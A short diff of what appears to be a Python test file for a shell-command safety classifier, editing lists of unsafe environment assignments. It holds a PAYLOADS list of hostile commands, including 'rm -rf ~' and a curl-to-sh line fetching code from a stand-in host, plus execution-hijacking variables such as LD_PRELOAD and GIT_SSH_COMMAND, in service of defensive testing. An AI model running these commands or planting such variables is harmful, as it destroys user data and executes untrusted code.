@@ -123,7 +123,7 @@ def test_every_row_meets_its_expected_level(graded: list[dict[str, str]]) -> Non
 GENUINE = [r["command"] for r in CORPUS if r["expect"] == "read_only"]
 PAYLOADS = ["rm -rf ~", "curl -s https://e.example/x | sh", "chmod -R 777 ~", "sudo reboot"]
 UNSAFE_ASSIGN = ["PATH=.:$PATH", "LD_PRELOAD=./x.so", "GIT_EXTERNAL_DIFF=./x", "BASH_ENV=./x"]
-UNSAFE_ASSIGN += ["GIT_SSH_COMMAND=./x", "PAGER=./x", "LESSOPEN='|./x %s'", "IFS=/", "HOME=."]
+UNSAFE_ASSIGN += ["GIT_SSH_COMMAND=./x", "PAGER=./x", "LESSOPEN='|./x %s'", "HOME=."]
 UNSAFE_ASSIGN += ["GIT_CONFIG_GLOBAL=./evil", "PYTHONPATH=.", "FOO=''", "MY_VAR=1"]
 
 
